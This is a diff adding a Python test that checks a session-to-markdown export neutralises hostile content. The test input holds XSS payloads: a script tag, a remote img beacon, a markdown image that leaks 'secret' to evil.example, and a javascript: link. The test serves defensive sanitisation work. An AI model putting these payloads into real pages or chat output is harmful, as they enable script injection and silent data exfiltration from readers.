@@ -239,3 +239,19 @@ def test_a_web_search_is_saved_and_exported_with_its_query_and_pages(
     markdown = session_markdown(saved)
     assert "**Web search** ```\nrelease date\n```" in markdown
     assert "**Search results**\n\n- Release notes — <https://example.org/notes>" in markdown
+
+
+def test_the_export_neutralises_html_remote_images_and_script_links(
+    harness: HarnessFactory, tmp_path: Path
+) -> None:
+    hostile = (
+        'Done. <script>alert(1)</script> <img src="https://evil.example/beacon.png"> '
+        "![chart](https://evil.example/leak.png?d=secret) [docs](javascript:alert(1))"
+    )
+    h = harness([Turn(blocks=[Text(hostile)])], session_options=_saving(tmp_path))
+    h.run("summarise")
+    markdown = session_markdown(load_session(_only_file(tmp_path)))
+    assert "<script" not in markdown and "<img" not in markdown
+    assert "&lt;script>alert(1)&lt;/script>" in markdown
+    assert "![" not in markdown and "[image: chart](https://evil.example/leak.png?d=secret)" in markdown
+    assert "javascript:" not in markdown and "[docs](#)" in markdown
